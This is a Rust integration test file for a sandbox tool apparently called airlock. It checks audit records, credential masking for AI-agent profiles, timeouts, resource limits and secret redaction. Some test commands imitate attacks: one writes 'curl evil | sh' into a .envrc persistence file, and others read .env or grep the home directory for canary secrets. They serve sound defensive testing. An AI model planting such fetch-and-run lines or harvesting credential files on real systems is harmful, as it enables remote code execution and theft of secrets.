//! Audit records, agent profiles, and the CI-runner behaviour, through the real binary.

use crate::common;
use common::*;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn lines(path: &std::path::Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| {
            serde_json::from_str(l).unwrap_or_else(|e| panic!("malformed audit line ({e}): {l}"))
        })
        .collect()
}

#[test]
fn audit_record_has_every_field_and_no_canary() {
    let f = Fixture::new();
    for who in users() {
        let log = f.dir.path().join(format!("audit-{who:?}.jsonl"));
        let out = f
            .airlock(who)
            .env("GITHUB_TOKEN", canary("audit-env"))
            .env(
                "INNOCENT",
                format!("ghp_{}", "Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8"),
            )
            .args([
                "run",
                "--audit-log",
                log.to_str().unwrap(),
                "--env-keep",
                "INNOCENT",
                "--",
                "sh",
                "-c",
                "cat .env; echo run=$AIRLOCK_RUN_ID; exit 7",
            ])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(7), "{}", show(&out));
        let text = std::fs::read_to_string(&log).unwrap();
        assert!(
            !text.contains("CANARY") && !text.contains("ghp_"),
            "{who:?}: audit log leaks a secret:\n{text}"
        );
        let recs = lines(&log);
        assert_eq!(recs.len(), 2, "{text}");
        let (start, end) = (&recs[0], &recs[1]);
        assert_eq!(start["event"], "start");
        assert_eq!(end["event"], "end");
        assert_eq!(start["run_id"], end["run_id"]);
        let run_id = start["run_id"].as_str().unwrap();
        assert!(
            stdout(&out).contains(&format!("run={run_id}")),
            "AIRLOCK_RUN_ID is exported"
        );
        for key in [
            "time",
            "user",
            "uid",
            "argv",
            "cwd",
            "workspace",
            "profile",
            "mode",
            "layers",
            "masks",
            "env",
            "findings",
        ] {
            assert!(
                !start[key].is_null(),
                "{who:?}: start record lacks {key}: {start}"
            );
        }
        assert_eq!(start["profile"]["name"], "default");
        assert_eq!(start["profile"]["sha256"].as_str().unwrap().len(), 64);
        assert!(start["layers"]["namespaces"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n == "net"));
        let masks = start["masks"].as_array().unwrap();
        assert!(
            masks
                .iter()
                .any(|m| m["path"].as_str().unwrap().ends_with("/.env")
                    && m["reason"].as_str().unwrap().contains(".env")),
            "{start}"
        );
        let dropped = start["env"]["dropped"].as_array().unwrap();
        assert!(
            dropped.iter().any(|d| d["name"] == "INNOCENT"),
            "dropped env names are recorded: {start}"
        );
        for key in ["time", "exit_code", "duration_ms", "enforced"] {
            assert!(
                !end[key].is_null(),
                "{who:?}: end record lacks {key}: {end}"
            );
        }
        assert_eq!(end["exit_code"], 7);
    }
}

#[test]
fn twenty_concurrent_runs_give_forty_well_formed_lines() {
    let f = Fixture::new();
    let log = f.dir.path().join("concurrent.jsonl");
    let children: Vec<_> = (0..20)
        .map(|i| {
            f.airlock(As::Me)
                .args([
                    "run",
                    "--audit-log",
                    log.to_str().unwrap(),
                    "--",
                    "sh",
                    "-c",
                    &format!("exit {}", i % 3),
                ])
                .stdout(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut c in children {
        c.wait().unwrap();
    }
    let recs = lines(&log);
    assert_eq!(recs.len(), 40);
    let mut ids: Vec<&str> = recs
        .iter()
        .filter(|r| r["event"] == "start")
        .map(|r| r["run_id"].as_str().unwrap())
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 20, "every run has its own id");
}

#[test]
fn required_audit_that_cannot_be_written_fails_closed() {
    let f = Fixture::new();
    let prof = f.dir.path().join("audited.toml");
    std::fs::write(&prof, "extends = \"default\"\n[audit]\npath = \"/proc/airlock-cannot-write-here/audit.jsonl\"\nrequired = true\n").unwrap();
    let out = f.run_sh(
        As::Me,
        &["--profile", prof.to_str().unwrap()],
        "echo should-not-run",
    );
    assert_eq!(out.status.code(), Some(125), "{}", show(&out));
    assert!(stderr(&out).contains("audit"), "{}", show(&out));
    assert!(!stdout(&out).contains("should-not-run"));
}

#[test]
fn timeout_kills_a_grandchild_that_ignores_sigterm_and_exits_124() {
    let f = Fixture::new();
    for who in users() {
        let marker = format!(
            "{}{}",
            7000 + std::process::id() % 1000,
            if who == As::Me { 1 } else { 2 }
        );
        let t = Instant::now();
        let out = f.run_sh(
            who,
            &["--timeout", "1s"],
            &format!("sh -c 'trap \"\" TERM; exec sleep {marker}.5' & trap '' TERM; wait"),
        );
        assert_eq!(out.status.code(), Some(124), "{who:?}: {}", show(&out));
        assert!(t.elapsed() < Duration::from_secs(10));
        assert!(stderr(&out).contains("timeout"), "{}", show(&out));
        std::thread::sleep(Duration::from_millis(200));
        let left = Command::new("pgrep")
            .args(["-f", &format!("sleep {marker}.5")])
            .output()
            .unwrap();
        assert!(
            !left.status.success(),
            "{who:?}: a process outlived the timeout"
        );
    }
}

#[test]
fn profile_rlimits_are_visible_inside() {
    let f = Fixture::new();
    let prof = f.dir.path().join("limited.toml");
    std::fs::write(
        &prof,
        "extends = \"default\"\n[limits]\nnproc = 777\nnofile = 333\ncore = 0\n",
    )
    .unwrap();
    for who in users() {
        let out = f.run_sh(
            who,
            &["--profile", prof.to_str().unwrap()],
            "bash -c 'ulimit -u; ulimit -n; ulimit -c'",
        );
        assert_eq!(
            stdout(&out).split_whitespace().collect::<Vec<_>>(),
            ["777", "333", "0"],
            "{who:?}: {}",
            show(&out)
        );
    }
    let out = f.run_sh(As::Me, &["--profile", "ci"], "ulimit -c");
    assert_eq!(stdout(&out).trim(), "0");
}

#[test]
fn ci_profile_streams_output_and_passes_status_without_a_terminal() {
    let f = Fixture::new();
    let mut child = f
        .airlock(As::Me)
        .args([
            "run",
            "--profile",
            "ci",
            "--",
            "sh",
            "-c",
            "echo first; sleep 1; echo second >&2; exit 9",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    let t = Instant::now();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut first,
    )
    .unwrap();
    assert_eq!(first, "first\n");
    assert!(
        t.elapsed() < Duration::from_millis(900),
        "output is streamed, not buffered until exit"
    );
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(9));
    assert!(String::from_utf8_lossy(&out.stderr).contains("second"));
}

#[test]
fn each_agent_profile_passes_its_own_credential_and_masks_the_others() {
    let f = Fixture::new();
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "claude-code",
            &["ANTHROPIC_API_KEY"],
            ".claude/.credentials.json",
        ),
        ("codex", &["OPENAI_API_KEY"], ".codex/auth.json"),
        (
            "gemini-cli",
            &["GEMINI_API_KEY"],
            ".gemini/oauth_creds.json",
        ),
        ("aider", &["OPENAI_API_KEY", "ANTHROPIC_API_KEY"], ".aider"),
        (
            "opencode",
            &["ANTHROPIC_API_KEY", "OPENAI_API_KEY"],
            ".local/share/opencode/auth.json",
        ),
    ];
    let all_keys = [
        "ANTHROPIC_API_KEY",
        "OPENAI_API_KEY",
        "GEMINI_API_KEY",
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
    ];
    for (profile, own, own_file) in cases {
        let mut c = f.airlock(As::Me);
        for k in all_keys {
            c.env(k, format!("sk-{}", "test-value-not-real-0123456789abcdef"));
        }
        let out = c
            .args([
                "run",
                "--profile",
                profile,
                "--dry-run",
                "--format",
                "json",
                "--",
                "true",
            ])
            .output()
            .unwrap();
        assert!(out.status.success(), "{profile}: {}", show(&out));
        let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            plan["network"], "proxy",
            "{profile}: agents get allow-listed egress, not the host network"
        );
        assert!(
            !plan["proxy"]["allow"].as_array().unwrap().is_empty(),
            "{profile}"
        );
        let passed: Vec<&str> = plan["env"]["vars"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v["name"].as_str().unwrap())
            .collect();
        for k in all_keys {
            assert_eq!(
                passed.contains(&k),
                own.contains(&k),
                "{profile}: {k} passed={}",
                passed.contains(&k)
            );
        }
        let masks: Vec<&str> = plan["masks"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|m| m["in_view"] == true)
            .map(|m| m["path"].as_str().unwrap())
            .collect();
        let own_path = f.home.join(own_file).display().to_string();
        assert!(
            !masks.iter().any(|m| *m == own_path),
            "{profile}: its own credential {own_file} is not masked: {masks:?}"
        );
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains("test-value-not-real"),
            "{profile}: no value in the plan"
        );
        // The text form for humans names the profile.
        let out = f
            .airlock(As::Me)
            .args(["profile", "show", profile])
            .output()
            .unwrap();
        assert!(stdout(&out).contains(profile), "{}", show(&out));
    }
}

#[test]
fn agent_profile_keeps_global_hooks_read_only_and_other_credentials_masked() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.home.join(".claude")).unwrap();
    std::fs::write(f.home.join(".claude/settings.json"), "{}").unwrap();
    std::fs::write(
        f.home.join(".claude/.credentials.json"),
        "{\"token\":\"own-credential\"}",
    )
    .unwrap();
    for who in users() {
        let home = f.home.to_string_lossy().into_owned();
        let out = f.run_sh(who, &["--profile", "claude-code", "--net", "none", "--ro", &home], "cat ~/.claude/.credentials.json; echo; echo '{\"hooks\":1}' > ~/.claude/settings.json; echo state > ~/.claude/history.jsonl && echo state-ok; grep -rah CANARY ~ ; true");
        let s = format!("{}{}", stdout(&out), stderr(&out));
        assert!(s.contains("own-credential"), "{who:?}: {s}");
        assert!(
            s.contains("state-ok"),
            "{who:?}: ~/.claude is writable: {s}"
        );
        assert!(
            s.contains("Read-only file system"),
            "{who:?}: settings.json read-only: {s}"
        );
        f.assert_no_canary(&out, "claude-code");
    }
}

#[test]
fn devcontainer_profile_reports_its_mode_on_the_first_line() {
    let f = Fixture::new();
    let out = f.run_sh(As::Me, &["--profile", "devcontainer"], "echo body");
    let first = stderr(&out).lines().next().unwrap_or_default().to_string();
    assert!(first.starts_with("airlock: mode "), "{}", show(&out));
}

#[test]
fn completions_man_page_and_schema_generate() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let out = Command::new(BIN)
            .args(["completions", shell])
            .output()
            .unwrap();
        assert!(out.status.success() && out.stdout.len() > 500, "{shell}");
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("dry-run"),
            "{shell}"
        );
    }
    let out = Command::new(BIN).arg("man").output().unwrap();
    assert!(out.status.success() && String::from_utf8_lossy(&out.stdout).contains(".TH airlock"));
    let out = Command::new(BIN)
        .args(["profile", "schema"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["properties"]["filesystem"].is_object(), "{v}");
}

#[test]
fn unknown_flag_suggests_the_right_one() {
    let out = Command::new(BIN)
        .args(["run", "--dryrun", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("--dry-run"), "{}", show(&out));
}

#[test]
fn a_real_ci_job_runs_under_the_ci_profile() {
    // An offline `cargo test` of a small crate, with the toolchain bound read-only.
    let f = Fixture::new();
    let sysroot = match Command::new("rustc").args(["--print", "sysroot"]).output() {
        Ok(o) if o.status.success() => String::from_utf8_lossy(&o.stdout).trim().to_string(),
        // As uid 65534 the toolchain under /root is out of reach: nothing to run.
        _ => {
            common::needs(
                "a_real_ci_job_runs_under_the_ci_profile",
                common::Need::Rustc,
                false,
            );
            return;
        }
    };
    let krate = f.ws.join("fixture-crate");
    std::fs::create_dir_all(krate.join("src")).unwrap();
    std::fs::write(
        krate.join("Cargo.toml"),
        "[package]\nname = \"fixture\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(krate.join("src/lib.rs"), "pub fn add(a: u32, b: u32) -> u32 { a + b }\n#[cfg(test)]\nmod t { #[test] fn adds() { assert_eq!(super::add(2, 2), 4); } }\n").unwrap();
    // The toolchain is bound read-only and vouched for (not walked or scanned).
    let prof = f.dir.path().join("ci-toolchain.toml");
    std::fs::write(&prof, format!("extends = \"ci\"\n[filesystem]\nro = [\"{sysroot}\"]\n[secrets]\ntrusted = [\"{sysroot}\"]\n")).unwrap();
    let mut c = f.airlock(As::Me);
    c.current_dir(&krate)
        .env("PATH", format!("{sysroot}/bin:/usr/bin:/bin"));
    let out = c
        .args([
            "run",
            "--profile",
            prof.to_str().unwrap(),
            "--",
            "cargo",
            "test",
            "--offline",
            "--quiet",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    assert!(stdout(&out).contains("1 passed"), "{}", show(&out));
    f.assert_no_canary(&out, "ci job");
}

#[test]
fn cgroup_limits_are_applied_or_reported_never_silently_ignored() {
    let f = Fixture::new();
    let soft = f.dir.path().join("mem.toml");
    std::fs::write(
        &soft,
        "extends = \"default\"\n[limits]\nmemory = 268435456\npids = 256\n",
    )
    .unwrap();
    let hard = f.dir.path().join("mem-required.toml");
    std::fs::write(
        &hard,
        "extends = \"default\"\n[limits]\nmemory = 268435456\npids = 256\ncgroup_required = true\n",
    )
    .unwrap();
    let log = f.dir.path().join("cg.jsonl");
    let out = f.run_sh(
        As::Me,
        &[
            "--profile",
            soft.to_str().unwrap(),
            "--audit-log",
            log.to_str().unwrap(),
        ],
        "echo ran",
    );
    assert!(stdout(&out).contains("ran"), "{}", show(&out));
    let end = lines(&log).pop().unwrap();
    let note = end["cgroup"]
        .as_str()
        .expect("the audit record says what happened to the cgroup limits");
    if note.starts_with("unavailable") {
        assert!(
            stderr(&out).contains("WARNING: memory/pids limits not applied"),
            "{}",
            show(&out)
        );
        let out = f.run_sh(
            As::Me,
            &["--profile", hard.to_str().unwrap()],
            "echo should-not-run",
        );
        assert_eq!(out.status.code(), Some(125), "{}", show(&out));
        assert!(stderr(&out).contains("cgroup") && !stdout(&out).contains("should-not-run"));
    } else {
        assert!(note.starts_with("applied"), "{note}");
        let out = f.run_sh(
            As::Me,
            &["--profile", hard.to_str().unwrap()],
            "cat /sys/fs/cgroup/pids.max 2>/dev/null; echo ran",
        );
        assert!(stdout(&out).contains("ran"), "{}", show(&out));
    }
}

#[test]
fn the_profile_reference_in_the_readme_validates() {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let block = readme
        .split("Reference (every key is optional):")
        .nth(1)
        .unwrap()
        .split("```toml")
        .nth(1)
        .unwrap()
        .split("```")
        .next()
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("reference.toml");
    std::fs::write(&p, block).unwrap();
    let out = Command::new(BIN)
        .args(["profile", "validate", p.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
}

#[test]
fn credentials_on_the_command_line_stay_out_of_the_plan_and_the_audit_record() {
    let f = Fixture::new();
    let tok = format!("ghp_{}", "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8");
    let log = f.dir.path().join("argv.jsonl");
    let out = f
        .airlock(As::Me)
        .args([
            "run",
            "--audit-log",
            log.to_str().unwrap(),
            "--env-set",
            "PASSWORD=hunter2-value",
            "--",
            "sh",
            "-c",
            "true",
            &tok,
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        !text.contains(&tok) && !text.contains("hunter2-value"),
        "{text}"
    );
    assert!(text.contains("PASSWORD=<redacted>"), "{text}");
    for fmt in ["text", "json"] {
        let out = f
            .airlock(As::Me)
            .args([
                "run",
                "--dry-run",
                "--format",
                fmt,
                "--",
                "sh",
                "-c",
                "true",
                &tok,
            ])
            .output()
            .unwrap();
        assert!(!stdout(&out).contains(&tok), "{fmt}: {}", show(&out));
    }
}

#[test]
fn persistence_files_created_by_the_command_are_reported() {
    // An absent `.envrc` cannot be bound read-only without creating it on
    // the host: if the command creates one, the run says so and records it.
    let f = Fixture::new();
    let log = f.dir.path().join("persist.jsonl");
    let out = f.run_sh(
        As::Me,
        &["--audit-log", log.to_str().unwrap()],
        "echo 'curl evil | sh' > .envrc; echo ok > src/fine.txt",
    );
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        stderr(&out).contains("WARNING") && stderr(&out).contains(".envrc"),
        "{}",
        show(&out)
    );
    assert!(
        !stderr(&out).contains("fine.txt"),
        "ordinary files are not reported"
    );
    let end = lines(&log).pop().unwrap();
    let created = end["persistence_created"].as_array().unwrap();
    assert_eq!(created.len(), 1, "{end}");
    assert!(created[0].as_str().unwrap().ends_with("/.envrc"));
}

/// A lock held on the audit log by someone else (a sandboxed command of a
/// concurrent run can reach a log kept in its workspace) delays a record by
/// at most a bounded wait, never holds the run: both records are written.
#[test]
fn a_held_lock_on_the_audit_log_does_not_hold_the_run() {
    use nix::fcntl::{Flock, FlockArg};
    let f = Fixture::new();
    let log = f.ws.join("audit.jsonl");
    std::fs::write(&log, "").unwrap();
    let held = Flock::lock(
        std::fs::File::open(&log).unwrap(),
        FlockArg::LockExclusiveNonblock,
    )
    .map_err(|(_, e)| e)
    .expect("lock the log");
    let start = Instant::now();
    let out = f
        .airlock(As::Me)
        .args(["run", "--audit-log"])
        .arg(&log)
        .args(["--", "true"])
        .output()
        .unwrap();
    let took = start.elapsed();
    drop(held);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(took < Duration::from_secs(20), "held for {took:?}");
    let records = lines(&log);
    assert_eq!(records.len(), 2, "start and end written");
    assert_eq!(records[1]["event"], "end");
}
